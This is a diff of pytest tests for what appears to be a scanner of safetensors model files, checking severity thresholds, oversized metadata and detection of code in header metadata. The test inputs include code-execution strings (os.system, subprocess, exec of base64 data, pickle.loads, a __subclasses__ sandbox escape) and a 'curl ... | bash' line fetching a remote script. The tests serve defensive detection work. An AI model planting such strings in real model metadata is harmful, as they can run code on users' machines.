@@ -63,6 +63,13 @@ def test_each_hostile_file_yields_exactly_its_rules(name: str, generated) -> Non
     assert {f.rule for f in _findings(generated(generator))} == expected
 
 
+@pytest.mark.parametrize("name", sorted(SAFETENSORS_MALICIOUS))
+def test_each_hostile_file_fails_the_default_threshold(name: str, generated) -> None:
+    report = scan(str(generated(SAFETENSORS_MALICIOUS[name][0])), ScanOptions(policy=POLICY, use_cache=False, scanners=SCANNERS))
+    assert POLICY.fail_at == Severity.HIGH
+    assert not report.passed, [(f.rule, str(f.severity)) for f in report.findings]
+
+
 @pytest.mark.parametrize("name", sorted(SAFETENSORS_BENIGN))
 def test_real_and_library_written_files_are_clean(name: str, generated) -> None:
     findings = _findings(generated(SAFETENSORS_BENIGN[name]))
@@ -129,8 +136,77 @@ def test_serde_strictness_is_reproduced(header: bytes, reason: str, tmp_path: Pa
 def test_a_header_beyond_the_entry_limit_is_unvetted_not_parsed(tmp_path: Path) -> None:
     path = tmp_path / "model.safetensors"
     path.write_bytes(safetensors_bytes({f"t{i}": {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(50)}, bytes(50)))
-    assert [f.rule for f in _scan_file(path, Limits(max_entries=100))] == ["AIR407"]
+    (unvetted,) = _scan_file(path, Limits(max_entries=100))
+    assert (unvetted.rule, unvetted.severity) == ("AIR407", Severity.HIGH)  # not parsed to the end
     assert _scan_file(path) == []
+
+
+def test_metadata_over_one_mebibyte_is_low_and_over_sixteen_is_high(tmp_path: Path, generated) -> None:
+    (large,) = _scan_file(weights_files.huge_metadata(tmp_path, entries=20))  # 1.3 MB
+    assert (large.rule, large.severity, large.evidence["bytes"]) == ("AIR405", Severity.LOW, 20 * 64_000 + 50)
+    (huge,) = _scan_file(generated(SAFETENSORS_MALICIOUS["st-huge-metadata"][0]))
+    assert (huge.rule, huge.severity) == ("AIR405", Severity.HIGH)
+    assert huge.evidence["bytes"] > 16 << 20 > large.evidence["bytes"] > 1 << 20
+
+
+def _metadata_findings(value: str, folder: Path) -> list[Finding]:
+    header = {"__metadata__": {"format": "pt", "v": value}, "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
+    return _scan_bytes(safetensors_bytes(header, bytes(8)), folder)
+
+
+@pytest.mark.parametrize(
+    "value, match",
+    [
+        ("__import__('os').system('id')", "__import__('os').system('id')"),
+        ("import subprocess; subprocess.run(['id'])", "import subprocess"),
+        ("import os\nos.popen('id').read()", "os.popen('id')"),
+        ("from os import system as s; s('id')", "from os import system as s"),
+        ("exec(base64.b64decode('aWQ='))", "exec(base64.b64decode('aWQ='))"),
+        ("pickle.loads(base64.b64decode('gAR9lC4='))", "pickle.loads(base64.b64decode('gAR9lC4='))"),
+        ("getattr(__builtins__, 'ev' + 'al')('1')", "getattr(__builtins__, 'ev' + 'al')"),
+        ("importlib.import_module('subprocess').check_output('id')", "importlib.import_module('subprocess').check_output('id')"),
+        ("().__class__.__base__.__subclasses__()", "().__class__.__base__.__subclasses__()"),
+        ('{"_target_": "os.system", "args": ["id"]}', "os.system"),  # JSON whose string a loader would resolve
+        ("run me: eval(input())", "eval(input())"),  # not Python: by pattern
+        ("curl -s https://example.invalid/x.sh | bash", "| bash"),
+    ],
+)
+def test_metadata_that_names_an_execution_primitive_is_high(value: str, match: str, tmp_path: Path) -> None:
+    (finding,) = _metadata_findings(value, tmp_path)
+    assert (finding.rule, finding.severity, finding.location) == ("AIR408", Severity.HIGH, "model.safetensors@header:__metadata__:v")
+    assert finding.evidence["match"] == match
+
+
+KOHYA_TAGS = json.dumps({"10_sks dog": {"sks dog": 20, "1girl": 3, "solo": 4, "import export": 1}})
+KOHYA_DATASETS = json.dumps([{"is_dreambooth": True, "batch_size_per_device": 2, "subsets": [{"image_dir": "train/10_sks dog"}]}])
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        "pt",
+        "networks.lora",  # ss_network_module: a dotted module name, not code
+        "lycoris.kohya",
+        "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.01,betas=(0.9, 0.999))",  # ss_optimizer
+        "prodigyopt.Prodigy(decouple=True,weight_decay=0.01,use_bias_correction=True)",
+        KOHYA_TAGS,  # ss_tag_frequency
+        KOHYA_DATASETS,  # ss_datasets
+        '{"conv_dim": "4", "conv_alpha": "1", "algo": "lora"}',  # ss_network_args
+        "stable-diffusion-xl-v1-base/lora",  # modelspec.architecture
+        "2024-05-01T12:00:00",  # modelspec.date
+        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
+        '{"description": "We import weights from the original checkpoint and compile them.", "use_cache": true}',
+        "Trained with torch.compile() and model.eval() for validation, os: Ubuntu 22.04 (bash).",
+        "os.path.join(root, 'images')",
+    ],
+)
+def test_real_metadata_is_not_code(value: str, tmp_path: Path) -> None:
+    assert [f for f in _metadata_findings(value, tmp_path) if f.severity >= Severity.LOW] == []
+
+
+def test_a_url_stays_informational(tmp_path: Path) -> None:
+    (finding,) = _metadata_findings("https://github.com/Stability-AI/generative-models", tmp_path)  # modelspec.implementation
+    assert (finding.rule, finding.severity) == ("AIR406", Severity.INFO)
 
 
 def _counting_open(log: list[int]) -> Any:
